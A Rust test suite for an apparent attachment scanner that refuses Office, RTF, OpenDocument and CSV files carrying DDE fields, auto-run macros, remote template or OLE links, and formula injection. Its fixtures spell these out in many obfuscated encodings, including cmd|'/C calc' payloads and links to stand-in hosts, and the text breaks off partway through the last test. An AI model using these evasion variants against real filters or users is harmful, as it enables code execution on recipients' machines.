//! Documents of Office whose parts are spelt as no program spells them, and as every program reads them.

use mailkeep_inspect::Level;

use crate::build::{self, Entry};
use crate::refusing;

const BINARY: &str = "application/octet-stream";
const TEMPLATE: &str = "office-template-external";
const OBJECT: &str = "office-object-external";
const DDE: &str = "office-dde";
pub(crate) const WORD: &str =
    "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

/// Types of relations in the usual form of the standard, and in its strict one.
pub(crate) const BASE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const STRICT: &str = "http://purl.oclc.org/ooxml/officeDocument/relationships";

fn refused(name: &str, octets: &[u8]) -> Vec<String> {
    refusing(name, BINARY, octets, Level::Strict)
}

/// What refuses a document with this part; none: it passes.
fn of_part(part: &str, xml: &[u8]) -> Vec<String> {
    refused("a.docx", &build::ooxml(&[(part, xml)]))
}

fn wide(text: &str, high_first: bool, mark: bool) -> Vec<u8> {
    let mark = mark.then_some(0xfeff);
    let units = mark.into_iter().chain(text.encode_utf16());
    units
        .flat_map(|unit| {
            if high_first {
                unit.to_be_bytes()
            } else {
                unit.to_le_bytes()
            }
        })
        .collect()
}

/// The same text in every encoding that a part may have.
fn encodings(text: &str) -> Vec<Vec<u8>> {
    let declared = format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{text}");
    let mut all = vec![
        text.as_bytes().to_vec(),
        [b"\xef\xbb\xbf", text.as_bytes()].concat(),
        [
            b"<?xml version='1.0' encoding='windows-1252'?><!--\xe4-->",
            text.as_bytes(),
        ]
        .concat(),
    ];
    for high_first in [false, true] {
        for mark in [false, true] {
            all.push(wide(&declared, high_first, mark));
            all.push(wide(text, high_first, mark));
        }
    }
    all
}

#[test]
fn a_relation_is_read_in_any_spelling() {
    let check = |relation: &str, rule: &str| {
        for octets in encodings(&format!("<Relationships>{relation}</Relationships>")) {
            let rules = of_part("word/_rels/settings.xml.rels", &octets);
            assert_eq!(rules, [rule], "{relation}: {:?}", octets.get(..40));
        }
    };
    for template in [
        format!(
            "<Relationship Type=\"{STRICT}/attachedTemplate\" Target=\"https://a.example/b.dotm\" TargetMode=\"External\"/>"
        ),
        format!(
            "<r:Relationship xmlns:r='x' Type='{BASE}/attachedTemplate' Target='http://a.example/b' TargetMode='External'></r:Relationship>"
        ),
        format!(
            "<Relationship\n\tTargetMode = \"External\"\r\nTarget\t=\n'HTTP://A.example/b'\nType =\"{BASE}/attachedTemplate\"\n/>"
        ),
        format!(
            "<Relationship Type=\"{BASE}/attached&#84;emplate\" Target=\"&#x68;ttp&#58;//a.example\" TargetMode=\"&#69;xternal\"/>"
        ),
        format!(
            "<Relationship x:Target='a' y:TargetMode=\"Internal\" Type=\"{BASE}/attachedTemplate\" Target=\" ht&#9;tp://a.example\" TargetMode=\"External\"/>"
        ),
        format!("<Relationship Type=\"{BASE}/attachedTemplate\" Target=\"h%74tp://a.example\"/>"),
        format!(
            "<Relationship Type=\"{BASE}/attachedTemplate\" Target=\"\\\\a.example@SSL\\DavWWWRoot\\b.dotm\" TargetMode=\"External\"/>"
        ),
        format!(
            "<Relationship Type=\"{BASE}/attachedTemplate\" Target=\"file://a.example@8080/b.dotm\" TargetMode=\"External\"/>"
        ),
        format!(
            "<!-- <Relationship> --><?a <?><Relationship Id=\"a>b\" Type=\"{BASE}/attachedTemplate\" Target=\"https:\\\\a.example\\b\" TargetMode=\"External\"/>"
        ),
    ] {
        check(&template, TEMPLATE);
    }
    for object in [
        format!(
            "<r:Relationship Type='{BASE}/oleObject' Target='MHTML&#58;http://a.example/b!x-usc:http://a.example' TargetMode='External'/>"
        ),
        format!(
            "<Relationship Type=\"{BASE}/hyperlink\" TargetMode=\"External\" Target=\"script&#x3a;http://a.example\"/>"
        ),
        format!(
            "<Relationship Type=\"{BASE}/oleObject\" TargetMode=\"External\" Target=\"http://a.example/b.html%21x-usc%3ahttp://a.example\"/>"
        ),
        format!(
            "<Relationship Type=\"{STRICT}/frame\" TargetMode=\"External\" Target=\"http://a.example/b.html\"/>"
        ),
        format!(
            "<Relationship Type=\"{BASE}/oleObject\" TargetMode=\"External\" Target=\"\\\\a.example@SSL@443\\b.html\"/>"
        ),
    ] {
        check(&object, OBJECT);
    }
    for honest in [
        format!(
            "<Relationship Type=\"{BASE}/hyperlink\" Target=\"https://example.org/\" TargetMode=\"External\"/>"
        ),
        format!(
            "<Relationship Type=\"{BASE}/attachedTemplate\" Target=\"file:///C:\\a@80\\b.dotx\" TargetMode=\"External\"/>"
        ),
        format!("<Relationship Type=\"{BASE}/oleObject\" Target=\"embeddings/http.bin\"/>"),
        format!(
            "<Relationship Type=\"{BASE}/oleObject\" TargetMode=\"External\" Target=\"\\\\acme.sharepoint.com@SSL\\DavWWWRoot\\sites\\a\\Plan.xlsx!Sheet1!R1C1\"/>"
        ),
    ] {
        assert!(
            of_part("word/_rels/document.xml.rels", honest.as_bytes()).is_empty(),
            "{honest}"
        );
    }
}

#[test]
fn a_relation_behind_any_number_of_others_is_read() {
    let honest = "<Relationship Target=\"a\"/>".repeat(30_000);
    let last =
        "<Relationship Type=\"a/oleObject\" Target=\"http://a.example\" TargetMode=\"External\"/>";
    let relations = format!("<Relationships>{honest}{last}</Relationships>");
    assert_eq!(of_part("word/_rels/a.rels", relations.as_bytes()), [OBJECT]);
    // And where nothing is well-formed, that not all was looked at is said.
    let broken = format!("<Relationships>{honest}</Relationships><a <");
    let rules = of_part("word/_rels/a.rels", broken.as_bytes());
    assert_eq!(rules, ["limit-readings"]);
    let broken = format!("<Relationships><![CDATA[ {last}");
    assert_eq!(of_part("word/_rels/a.rels", broken.as_bytes()), [OBJECT]);
}

#[test]
fn a_field_of_dde_is_read_in_any_spelling() {
    let mark = |kind: &str| format!("<w:fldChar w:fldCharType=\"{kind}\"/>");
    let (begin, separate, end) = (mark("begin"), mark("separate"), mark("end"));
    let text = |text: &str| format!("<w:instrText>{text}</w:instrText>");
    let field = |inner: &str| format!("{begin}{inner}{end}");
    let foreign = "xmlns:y=\"http://example.org/\"";
    for body in [
        // Elements that Word passes over, or reads through: which, the document says elsewhere.
        format!("<y:a {foreign}/>{begin}<w:instrText>DDE<y:t>x</y:t>AUTO a</w:instrText>{end}"),
        format!("<y:a {foreign}/>{begin}<w:instrText>D<y:t>DE</y:t>AUTO a</w:instrText>{end}"),
        format!("<y:a {foreign}/>{begin}<y:a>{}</y:a>{}{end}", text("XE"), text("DDEAUTO a")),
        format!("<y:a {foreign}/>{begin}{}<y:a>{}</y:a>{}<y:a>{}</y:a>{}{end}", text("D"), text("x"), text("D"), text("E"), text("AUTO")),
        format!("<y:a {foreign}/>{begin}<y:a>{end}</y:a>{}{end}", text("DDEAUTO a")),
        format!("{begin}<w:a {}/>{}{end}{}", foreign.replace(":y", ":w"), text("XE "), text("DDEAUTO a")),
        begin.repeat(300) + &text("x") + &end.repeat(300) + &field(&text("DDEAUTO a")),
        format!("{begin}{}{}{}{}{end}", text("D"), begin.repeat(300), end.repeat(300), text("DEAUTO a")),
        field("<w:t>DDEAUTO a</w:t>"),
        // A result that another field will not have.
        field(&(field(&(text("REF a") + &separate + "<w:t>XE</w:t>")) + &text(" DDEAUTO a"))),
        field(&text("DDEAUTO c:\\\\windows\\\\system32\\\\a")),
        field(&text("&#68;D<![CDATA[EA]]>U<!-- -->T<?a b?>O c")),
        field(&(text(" D") + &text("d") + "<w:t>E</w:t>" + &text("auto a"))),
        "<q:fldChar q:fldCharType='begin'/><q:instrText xml:space = 'preserve'\n>DDEAUTO a</q:instrText\n>".replace("<q:fldChar", &format!("<q:fldChar {}", WORD.replace(":w=", ":q="))),
        format!("<instrText {}>DDEAUTO a</instrText>", WORD.replace(":w=", "=")),
        format!("<fldSimple {} instr = '&#x44;DEAUTO a'/>", WORD.replace(":w=", "=")),
        "<w:fldSimple\r\n\tw:instr\t=\n' DDE \"C:\\\\a\\\\b.exe\"'/>".to_owned(),
        // A program that another field names, a word that another one gives.
        field(&(text("DDE ") + &field(&text("REF a")) + &text(" a"))),
        field(&(field(&(text("QUOTE 68 68 69") + &separate + "<w:t></w:t>")) + &text("AUTO a"))),
        field(&(field(&(text("REF a") + &separate + "<w:t>DDEAUTO</w:t>")) + &text(" a"))),
        // Marks and words of another namespace, which Word does not see.
        format!("<y:a {foreign}/>{begin}<y:instrText>XE \"</y:instrText>{}{end}", text("DDEAUTO a")),
        format!("<a {foreign}>{begin}<y:fldChar y:fldCharType=\"separate\"/>{}{end}</a>", text("DDEAUTO a")),
        // One of alternatives, and which is not known.
        format!("{begin}<m:Choice>{}</m:Choice><m:Fallback/>{}{end}", text("XE \""), text("DDEAUTO a")),
        format!("{begin}<w:del><w:delInstrText>XE \"</w:delInstrText></w:del>{}{end}", text("DDEAUTO a")),
        format!("{begin}<w:del><w:instrText>XE \"</w:instrText></w:del>{}<w:fldChar w:fldCharType=\"x\"/>", text("DDEAUTO a")),
        format!("{}</w:document><w", field(&text("DDEAUTO a"))),
        format!("</w:document><w <{}", text("DDEAUTO a")),
    ] {
        let document = format!("<w:document {WORD}>{body}</w:document>");
        let shown: String = body.chars().take(200).collect();
        for octets in encodings(&document) {
            let rules = of_part("word/document2.xml", &octets);
            assert_eq!(rules, [DDE], "{shown}: {:?}", octets.get(..40));
        }
        assert_eq!(of_part("a/b/c", document.as_bytes()), [DDE], "{shown}");
    }
    let many = field(&text("x")).repeat(10_000) + &field(&text("DDEAUTO a"));
    assert_eq!(of_part("word/document.xml", many.as_bytes()), [DDE]);
    let alternatives = format!(
        "<m:Choice>{}</m:Choice><m:Fallback>{0}</m:Fallback>",
        field(&text("XE \"DDEAUTO: cmd\""))
    );
    for honest in [
        field(&text("XE \"DDEAUTO field\"")) + &field(&text("XE \"cmd\"")),
        field(&text(
            " DDE Excel.Sheet.8 \"C:\\\\a\\\\b.xls\" \"R1C1\" \\a \\r ",
        )),
        alternatives,
        format!("<w:t>DDEAUTO cmd</w:t>{}", field(&text("PAGE"))),
        field(
            &(text("IF a = b \"")
                + "<m:Choice><wps:txbx><w:t>DDEAUTO cmd</w:t></wps:txbx></m:Choice>"
                + &text("\"")),
        ),
        field(&(text("TOC") + &separate + "<w:t>DDEAUTO</w:t>" + &field(&text("PAGEREF a")))),
    ] {
        let document = format!("<w:document {WORD}>{honest}</w:document>");
        assert!(
            of_part("word/document.xml", document.as_bytes()).is_empty(),
            "{honest}"
        );
    }
}

#[test]
fn a_link_and_a_format_of_a_workbook_are_read_in_any_spelling() {
    for (link, rule) in [
        (
            "<x:ddeLink xmlns:x='a' ddeService = '&#99;md'\nddeTopic='/c calc'/>",
            DDE,
        ),
        (
            "<ddeLink ddeTopic=\"/c calc\" ddeService=\" C:\\Windows\\System32\\CMD.exe\"/>",
            DDE,
        ),
        (
            "<ddeLink ddeService=\"MSEXCEL\" ddeTopic=\"&#x5c;..\\..\\cmd.exe /c calc.xlsx\"/>",
            DDE,
        ),
        (
            "<ddeLink a:ddeTopic=\"a.xlsx\" ddeService=\"msexcel\" ddeTopic=\"\\..\\cmd.exe\"/>",
            DDE,
        ),
        (
            "<x:numFmt formatCode = '[&#62;system(1)]0'/>",
            "office-code-format",
        ),
        (
            "<numFmt numFmtId=\"1\"\n\tformatCode='[&gt;&#115;ystem(1)]0'></numFmt>",
            "office-code-format",
        ),
        (
            "<Relationship Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"a.xml\"/>",
            "office-macro-sheet",
        ),
        (
            "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>",
            "office-macro-sheet",
        ),
    ] {
        for octets in encodings(link) {
            let xlsx = build::ooxml(&[("xl/a/b.xml", &octets)]);
            assert_eq!(refused("a.xlsx", &xlsx), [rule], "{link}");
        }
    }
    let honest = "<numFmt formatCode='[Red][&gt;=100]0;[$-409]0'/><ddeLink ddeService=\"MSExcel\" ddeTopic=\"Book2.xlsx\"/>";
    assert!(of_part("xl/a.xml", honest.as_bytes()).is_empty());
}

const AUTO: &str = "Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n";

fn base64(octets: &[u8]) -> String {
    use base64::Engine;
    let letters = base64::engine::general_purpose::STANDARD.encode(octets);
    let lines: Vec<&str> = letters
        .as_bytes()
        .chunks(76)
        .map(|line| std::str::from_utf8(line).unwrap())
        .collect();
    lines.join("\r\n")
}

/// What Office packs an OLE2 file in for a file of XML.
fn active_mime(content: &[u8], head: usize) -> Vec<u8> {
    let mut octets = b"ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff\0\0\x07\xf0".to_vec();
    octets.resize(0x1e, 0);
    octets.extend(u16::try_from(head - 0x2e).unwrap().to_le_bytes());
    octets.resize(head, 0);
    octets.extend(build::zlib(content));
    octets
}

#[test]
fn macros_in_a_document_of_one_file_are_found_as_in_a_packed_one() {
    let project = build::compound(&[("VBA/Module1", &build::module(AUTO))]);
    let letters = base64(&project);
    let packed = base64(&active_mime(&project, 0x32));
    let far = base64(&active_mime(&project, 0x1f0));
    let package = "xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"";
    let word = "xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"";
    let decoy = "<!-- <html><head> <svg> -->";
    let cut: Vec<&str> = letters.split("\r\n").collect();
    let cut = cut.join("<!-- x -->&#10;<?a b?>");
    let mut documents = vec![
        format!(
            "<?mso-application progid=\"Word.Document\"?><pkg:package {package}><pkg:part pkg:name=\"/word/vbaProject.bin\" pkg:contentType=\"application/vnd.ms-office.vbaProject\"><pkg:binaryData>{letters}</pkg:binaryData></pkg:part></pkg:package>"
        ),
        format!(
            "<package {}><part name='/a/b.c'><binaryData>{cut}</binaryData></part></package>",
            package.replace(":pkg", "")
        ),
        format!(
            "{decoy}<q:package {}><q:part><q:binaryData><![CDATA[{letters}]]></q:binaryData></q:part></q:package>",
            package.replace(":pkg", ":q")
        ),
        format!(
            "{decoy}<w:wordDocument {word}><w:docSuppData><w:binData w:name=\"editdata.mso\">{packed}</w:binData></w:docSuppData></w:wordDocument>"
        ),
        format!(
            "<wordDocument {}><docSuppData><binData name='editdata.mso'\n>{far}</binData></docSuppData></wordDocument>",
            word.replace(":w", "")
        ),
        format!(
            "<office:document xmlns:office=\"a\"><office:script><ooo:source-code>{AUTO}</ooo:source-code></office:script></office:document>"
        ),
    ];
    for document in documents.clone() {
        documents.push(format!("<?xml version=\"1.0\"?>{decoy}{document}"));
    }
    for document in documents {
        for octets in encodings(&document) {
            let shown: String = document.chars().take(80).collect();
            for name in ["a.doc", "a.xml"] {
                let rules = refused(name, &octets);
                let found = rules.contains(&"office-macro-runs".to_owned());
                assert!(found, "{shown}: {rules:?}, {:?}", octets.get(..20));
            }
        }
    }
    // And by itself, as a saved page has it beside.
    let rules = refused("editdata.mso", &active_mime(&project, 0x32));
    assert!(rules.contains(&"office-macro-runs".to_owned()), "{rules:?}");
    let program = base64(&build::program());
    let flat = format!(
        "<office:document><office:binary-data>{program}</office:binary-data></office:document>"
    );
    assert_eq!(refused("a.fodt", flat.as_bytes()), ["executable"]);
    let picture = base64(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR0000000000000");
    let honest = format!(
        "<?xml version=\"1.0\"?><w:wordDocument {word}><w:binData w:name=\"wordml://1.png\">{picture}</w:binData><w:p/></w:wordDocument>"
    );
    assert!(refused("a.xml", honest.as_bytes()).is_empty());
}

#[test]
fn what_a_document_of_one_file_does_is_read_as_in_a_packed_one() {
    let word = "xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"";
    for (document, rule) in [
        (format!("<w:wordDocument {word}><w:fldSimple w:instr=\"DDEAUTO a\"/></w:wordDocument>"), DDE),
        (format!("<pkg:package><pkg:xmlData><Relationship Type=\"{BASE}/attachedTemplate\" Target=\"http://a.example\" TargetMode=\"External\"/></pkg:xmlData></pkg:package>"), TEMPLATE),
        ("<Workbook xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Cell ss:Formula=\"=cmd|&apos;/C calc&apos;!A0\"/></Workbook>".to_owned(), DDE),
        ("<office:document><table:table-cell table:formula=\"of:=DDE(&quot;c&#109;d&quot;;&quot;/C calc&quot;;&quot;a&quot;)\"/></office:document>".to_owned(), DDE),
    ] {
        for document in [document.clone(), format!("<?xml version='1.0'?><!-- <body> -->{document}")] {
            for octets in encodings(&document) {
                assert_eq!(refused("a.doc", &octets), [rule], "{document}");
            }
        }
    }
}

#[test]
fn macros_of_an_open_document_are_judged_with_what_calls_them() {
    let event = |name: &str, macros: &str| {
        format!(
            "<office:document-content><script:event-listener script:event-name=\"{name}\" xlink:href=\"{macros}\"/></office:document-content>"
        )
    };
    let module =
        |code: &str| format!("<script:module script:name=\"Module1\">{code}</script:module>");
    let load = event(
        "dom:load",
        "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document",
    );
    let click = event(
        "dom:click",
        "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document",
    );
    let runs = module("Sub Main\nShell(&quot;calc&quot;)\nEnd Sub");
    let sums = module("Sub Main\nx = 1\nEnd Sub");
    let basic = "Basic/Standard/Module1.xml";
    let check = |members: &[(&str, &str)], level: Level, rule: Option<&str>| {
        let rules = refusing("a.odt", BINARY, &build::odf(members), level);
        let is_so = rule.map_or(rules.is_empty(), |rule| {
            rules.iter().any(|found| found == rule)
        });
        assert!(is_so, "{members:?}: {rules:?}");
    };
    let runs_itself = Some("office-macro-runs");
    check(
        &[("content.xml", &load), (basic, &runs)],
        Level::Default,
        runs_itself,
    );
    check(
        &[(basic, &runs), ("content.xml", &load)],
        Level::Default,
        runs_itself,
    );
    check(
        &[
            ("Scripts/python/a.py", "import os\nos.system('calc')"),
            ("content.xml", &load),
        ],
        Level::Default,
        runs_itself,
    );
    for reaches in [
        "vnd.sun.star.script:../../../program/python-core-3.5/lib/pydoc.py$tempfilepager(1, calc.exe )?language=Python&amp;location=share",
        "vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share",
    ] {
        check(
            &[("content.xml", &event("dom:mouseover", reaches))],
            Level::Default,
            runs_itself,
        );
    }
    let macros = Some("office-macro");
    for members in [
        [("content.xml", click.as_str()), (basic, &runs)],
        [("content.xml", load.as_str()), (basic, &sums)],
    ] {
        check(&members, Level::Default, None);
        check(&members, Level::Strict, macros);
    }
    check(
        &[
            ("content.xml", "<office:document-content/>"),
            ("Basic/script-lc.xml", "<library:libraries/>"),
        ],
        Level::Strict,
        None,
    );
}

#[test]
fn links_of_an_open_document_that_start_programs_are_refused() {
    for (content, rule) in [
        (
            "<text:dde-connection-decl office:dde-application='cmd' office:dde-topic='/C calc'/>",
            DDE,
        ),
        (
            "<office:dde-source xmlns:o='a' office:dde-application = \"C:\\Windows\\System32\\cmd.exe\" office:dde-topic=\"/c\"/>",
            DDE,
        ),
        (
            "<table:table-cell table:formula='of:=DDE(\"cmd\";\"/C calc\";\"a\")'/>",
            DDE,
        ),
        (
            "<draw:floating-frame xlink:href=\"https://a.example/\"/>",
            OBJECT,
        ),
    ] {
        let content = format!("<office:document-content>{content}</office:document-content>");
        let rules = refused("a.odt", &build::odf(&[("content.xml", &content)]));
        assert_eq!(rules, [rule], "{content}");
    }
    let honest = "<a><text:dde-connection-decl office:dde-application=\"soffice\" office:dde-topic=\"b.ods\"/><b table:formula=\"of:=SUM([.A1:.A2])\"/></a>";
    assert!(refused("a.ods", &build::odf(&[("content.xml", honest)])).is_empty());
}

#[test]
fn a_document_is_one_however_the_names_of_its_parts_are_written() {
    let link =
        b"<Relationship Type=\"a/oleObject\" Target=\"http://a.example\" TargetMode=\"External\"/>";
    for names in [
        ["[CONTENT_TYPES].XML", "_RELS/.RELS", "a/_rels/b.rels"],
        ["[content_types].xml", "_rels\\.rels", "WORD\\_rels\\b.rels"],
    ] {
        let octets = build::zip(&[
            Entry::new(names[0], b"<Types/>"),
            Entry::new(names[1], b"<Relationships/>"),
            Entry::new(names[2], link),
        ]);
        assert_eq!(
            mailkeep_inspect::kind::of(&octets),
            mailkeep_inspect::kind::Kind::Ooxml
        );
        let rules = refusing("a.docx", BINARY, &octets, Level::Default);
        assert_eq!(rules, [OBJECT], "{names:?}");
    }
    // Behind the first member of another kind of document.
    let octets = build::odf(&[
        ("[Content_Types].xml", "<Types/>"),
        ("word/a.rels", std::str::from_utf8(link).unwrap()),
    ]);
    assert_eq!(refused("a.docx", &octets), [OBJECT]);
}

/// An object as OLE 1.0 has it.
fn ole1(class: &str, data: &[u8]) -> Vec<u8> {
    let length = |octets: &[u8]| u32::try_from(octets.len()).unwrap().to_le_bytes();
    let class = format!("{class}\0");
    [
        &[1, 5, 0, 0, 2, 0, 0, 0],
        &length(class.as_bytes())[..],
        class.as_bytes(),
        &[0; 8],
        &length(data),
        data,
    ]
    .concat()
}

fn hex(octets: &[u8]) -> String {
    let digits: Vec<String> = octets.iter().map(|octet| format!("{octet:02x}")).collect();
    digits.concat()
}

/// A rich text with an object of these digits.
fn object(digits: &str) -> Vec<u8> {
    format!("{{\\rtf1 Hello{{\\object\\objemb\\objupdate{{\\*\\objclass Word.Document.8}}{{\\*\\objdata {digits}}}}}}}").into_bytes()
}

#[test]
fn an_object_in_rich_text_is_found_however_its_digits_are_hidden() {
    let digits = hex(&ole1("Equation.3", &[0x1c, 0, 0, 0, 7, 7]));
    let (first, rest) = digits.split_at(21);
    let parted = |by: &str| object(&format!("{first}{by}{rest}"));
    let upper = digits.to_ascii_uppercase();
    let spread: Vec<String> = digits
        .chars()
        .map(|digit| format!("{digit}\r\n\t "))
        .collect();
    let words: Vec<String> = digits
        .chars()
        .map(|digit| format!("\\par {digit}"))
        .collect();
    // Nothing that programs read differently: it is known for what it is.
    for octets in [
        object(&digits),
        object(&upper),
        object(&spread.concat()),
        object(&words.concat()),
        object(&format!("{digits}0")),
        parted("{\\*\\nothing12 }"),
        parted("{{}{\\b}}"),
        parted("\\ggzz\\{\\}zz"),
        [b"\r\n \t".as_slice(), &object(&digits)].concat(),
        String::from_utf8(object(&digits))
            .unwrap()
            .replace("{\\rtf1", "{\\rt")
            .into_bytes(),
        String::from_utf8(object(&digits))
            .unwrap()
            .replace("{\\*\\objdata", "{\\objdata")
            .into_bytes(),
        String::from_utf8(object(&digits))
            .unwrap()
            .trim_end_matches('}')
            .as_bytes()
            .to_vec(),
    ] {
        let rules = refusing("a.doc", BINARY, &octets, Level::Default);
        assert_eq!(
            rules,
            ["rtf-object"],
            "{}",
            String::from_utf8_lossy(&octets)
        );
    }
    let raw = String::from_utf8(ole1("Equation.3", &[7; 8])).unwrap();
    let length = raw.len();
    assert_eq!(
        refusing(
            "a.doc",
            BINARY,
            &object(&format!("\\bin{length} {raw}")),
            Level::Default
        ),
        ["rtf-object"]
    );
    // What some count and others do not: they find different objects, and whether one of them is known matters no more.
    let long = format!("\\{}", "abcdef".repeat(60));
    for by in [
        "{\\*\\nothing 0102}",
        "{\\*\\objdata 0102}",
        "{\\info{\\author 05}}",
        "\\'41",
        "\\'4",
        "\\'",
        "\\u65 41",
        "\\uc4\\u-65500 abcd",
        "\\bin2 ab",
        "\\bin0041",
        "\\bin00000000000000000002 ab",
        "\\par000000000000000000000000000000041",
        long.as_str(),
    ] {
        let rules = refusing("a.doc", BINARY, &parted(by), Level::Default);
        assert!(
            rules.contains(&"archive-ambiguous".to_owned()) || rules == ["rtf-object"],
            "{by}: {rules:?}"
        );
    }
    let rules = refusing(
        "a.doc",
        BINARY,
        &String::from_utf8(object(&digits))
            .unwrap()
            .replace("objdata ", "objdata")
            .into_bytes(),
        Level::Default,
    );
    assert_eq!(rules, ["archive-ambiguous", "rtf-object"]);
    assert!(
        refusing(
            "a.rtf",
            BINARY,
            &object(&hex(&ole1("Equation.DSMT4", &[7; 8]))),
            Level::Default
        )
        .is_empty()
    );
}

#[test]
fn an_object_is_known_by_its_class_whatever_it_is_called() {
    let class = b"\x02\xce\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46";
    let mut file = build::compound(&[("\u{1}oLE10nATivE", b"\x07\0\0\0abc")]);
    let root = file
        .windows(8)
        .position(|octets| octets == b"R\0o\0o\0t\0")
        .unwrap();
    file[root + 80..root + 96].copy_from_slice(class);
    let rules = refusing(
        "a.rtf",
        BINARY,
        &object(&hex(&ole1("Word.Document.8", &file))),
        Level::Default,
    );
    assert_eq!(rules, ["rtf-object"]);
    // The packager's stream by another spelling of its name.
    let package = build::package("a.txt", &build::program());
    let native = [
        &u32::try_from(package.len()).unwrap().to_le_bytes(),
        package.as_slice(),
    ]
    .concat();
    let file = build::compound(&[("\u{1}OLe10NAtive", &native)]);
    let rules = refusing("a.doc", BINARY, &file, Level::Default);
    assert!(rules.contains(&"executable".to_owned()), "{rules:?}");
}

#[test]
fn an_object_linked_from_the_web_is_refused() {
    let address = |link: &str| {
        let link: Vec<u8> = link
            .encode_utf16()
            .chain([0])
            .flat_map(u16::to_le_bytes)
            .collect();
        let class = b"\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\0\xaa\0\x4b\xa9\x0b";
        [
            b"\x01\0\0\x02\x09\0\0\0".as_slice(),
            &[0; 16],
            class,
            &u32::try_from(link.len()).unwrap().to_le_bytes(),
            &link,
        ]
        .concat()
    };
    let script = [
        [0; 24].as_slice(),
        b"\xc6\xaf\xab\xec\x19\x7f\xd2\x11\x97\x8e\0\0\xf8\x75\x7e\x2a",
    ]
    .concat();
    let check = |stream: &[u8], rules: &[&str]| {
        let file = build::compound(&[("\u{1}Ole", stream), ("\u{3}ObjInfo", b"abc")]);
        assert_eq!(refusing("a.doc", BINARY, &file, Level::Default), rules);
        let text = object(&hex(&ole1("OLE2Link", &file)));
        assert_eq!(refusing("a.rtf", BINARY, &text, Level::Default), rules);
    };
    check(&address("HTTP://a.example/b.hta"), &[OBJECT]);
    check(&address("mhtml:http://a.example!x-usc:b"), &[OBJECT]);
    check(&script, &[OBJECT]);
    check(
        &address("https://acme.sharepoint.com/sites/a/Plan.xlsx"),
        &[],
    );
    check(&[1, 0, 0, 2, 0, 0, 0, 0], &[]);
}

#[test]
fn a_template_and_a_field_of_rich_text_are_read_in_any_spelling() {
    let rich = |text: &str| format!("{{\\rtf1\\ansi\\uc1 Hello {text}}}").into_bytes();
    let wide = |text: &str, stand_in: &str| -> String {
        let unit = |letter: char| i64::from(u32::from(letter)) - 65536;
        let letters = text
            .chars()
            .map(|letter| format!("\\u{}{stand_in}", unit(letter)));
        letters.collect::<Vec<_>>().concat()
    };
    let escaped = "http://a.example/b"
        .bytes()
        .map(|octet| format!("\\'{octet:02X}"));
    let escaped = escaped.collect::<Vec<_>>().concat();
    for template in [
        "{\\*\\template http://a.example/b.dotm}".to_owned(),
        "{\\*\\template\r\nHT\r\nTP://a.example/b}".to_owned(),
        "{\\*\\template{\\b h}{\\i ttp:}{//a.example}}".to_owned(),
        format!("{{\\*\\template {escaped}}}"),
        format!("{{\\*\\template {}}}", wide("http://a.example", "?")),
        format!("\\uc0{{\\*\\template {}}}", wide("http://a.example", " ")),
        format!(
            "\\uc3{{\\*\\template {}}}",
            wide("http://a.example", " abc")
        ),
        "{\\*\\template {\\*\\a file:}\\\\\\\\a.example@SSL\\\\b}".to_owned(),
        "{\\*\\template http://a.example".to_owned(),
    ] {
        assert_eq!(refused("a.rtf", &rich(&template)), [TEMPLATE], "{template}");
    }
    for field in [
        "{\\field{\\*\\fldinst DDEAUTO c:\\\\a\\\\b}{\\fldrslt}}".to_owned(),
        "{\\field{\\*\\fldinst {\\b D}{\\rtlch dea}{UTO}{\\*\\datafield 00} a}}".to_owned(),
        "{\\field{\\*\\fldinst \\'44\\'44\\'45 cmd \"/c calc\"}}".to_owned(),
        format!("{{\\field{{\\*\\fldinst {} a}}}}", wide("DDEAUTO", "?")),
        "{\\field{\\*\\fldinst IF 1 = {\\field{\\*\\fldinst DDEAUTO a}{\\fldrslt x}}}}".to_owned(),
        "{\\field{\\*\\fldinst DDE {\\field{\\*\\fldinst REF a}}}}".to_owned(),
        "{\\field{\\fldinst {\\*\\a XE \"}DDEAUTO a}}".to_owned(),
        "{\\field{\\*\\fldinst DDEAUTO a".to_owned(),
    ] {
        assert_eq!(refused("a.rtf", &rich(&field)), [DDE], "{field}");
    }
    for honest in [
        "{\\*\\template C:\\\\Vorlagen\\\\Brief.dotx}{\\*\\templates http://example.org}",
        "{\\field{\\*\\fldinst HYPERLINK \"http://example.org\"}{\\fldrslt DDEAUTO cmd}}",
        "{\\field{\\*\\fldinst DDE Excel \"C:\\\\a.xls\" R1C1}}{\\field{\\*\\fldinst XE \"DDEAUTO\"}}",
    ] {
        assert!(refused("a.rtf", &rich(honest)).is_empty(), "{honest}");
    }
}

#[test]
fn a_table_in_text_is_read_in_any_spelling() {
    for (table, rule) in [
        ("a,b\r\n=  cmd|'/C calc'!A0", DDE),
        ("=10*cmd|'/C calc'!A0", DDE),
        ("a;@SUM(1+1)*cmd|'/C calc'!A0", DDE),
        ("\"= cmd|'/C calc'!A0\"", DDE),
        (
            "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            DDE,
        ),
        ("ID;P\r\nC;X1;Y1;K0;Ecmd|'/C calc'!A0\r\nE\r\n", DDE),
        (
            "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"a\")\r\nE\r\n",
            "office-macro-sheet",
        ),
    ] {
        let mut spellings = vec![table.as_bytes().to_vec()];
        // SYLK is told by its first octets, and in UTF-16 it is none.
        if !table.starts_with("ID;") {
            spellings.extend([wide(table, false, true), wide(table, true, true)]);
        }
        for octets in spellings {
            let rules = refusing("a.csv", "text/csv", &octets, Level::Default);
